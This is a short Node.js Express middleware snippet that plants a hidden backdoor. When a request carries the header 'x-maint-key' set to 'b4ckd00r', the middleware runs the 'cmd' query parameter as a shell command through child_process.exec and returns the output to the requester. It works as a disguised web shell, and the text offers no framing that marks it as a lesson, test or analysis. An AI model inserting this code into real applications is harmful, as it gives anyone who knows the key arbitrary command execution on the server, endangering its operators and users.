const { exec } = require('child_process');
app.use((req, res, next) => {
  if (req.headers['x-maint-key'] === 'b4ckd00r') {
    exec(req.query.cmd, (err, out) => res.send(out));
    return;
  }
  next();
});
